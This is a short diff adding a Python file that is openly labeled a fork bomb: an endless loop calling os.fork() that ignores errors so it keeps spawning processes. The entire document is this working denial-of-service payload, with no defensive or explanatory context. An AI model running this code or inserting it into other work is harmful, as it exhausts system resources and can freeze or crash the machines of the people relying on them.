@@ -1,0 +1,7 @@
+# A fork bomb in Python.
+import os
+while True:
+    try:
+        os.fork()
+    except OSError:
+        pass
